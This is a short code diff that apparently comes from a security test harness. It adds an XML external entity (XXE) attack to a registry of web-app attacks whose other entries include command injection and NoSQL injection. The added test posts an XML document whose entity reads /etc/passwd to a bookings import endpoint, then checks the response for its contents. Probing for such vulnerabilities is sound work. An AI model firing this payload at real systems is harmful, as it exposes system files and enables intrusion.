@@ -45,6 +45,13 @@ def header_coach(visitor: Visitor) -> Shown:
     return Shown(got.headers.get("set-cookie") == "a=b", got.status)
 
 
+def xml_import(visitor: Visitor) -> Shown:
+    declared = '<!DOCTYPE b [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
+    document = f"{declared}<b><topic>Sleep &a;</topic></b>"
+    got = visitor.call("POST", "/api/v2/bookings/import", xml=document, token=visitor.log_in())
+    return Shown("root:x:0:0" in got.text, got.status)
+
+
 ATTACKS: Final[Mapping[str, Callable[[Visitor], Shown]]] = {
     "command-injection-print": command_print,
     "command-injection-contact": command_contact,
@@ -53,4 +60,5 @@ ATTACKS: Final[Mapping[str, Callable[[Visitor], Shown]]] = {
     "nosql-injection-coupon": nosql_coupon,
     "markup-injection-find": markup_find,
     "header-injection-coach": header_coach,
+    "xml-entities-import": xml_import,
 }
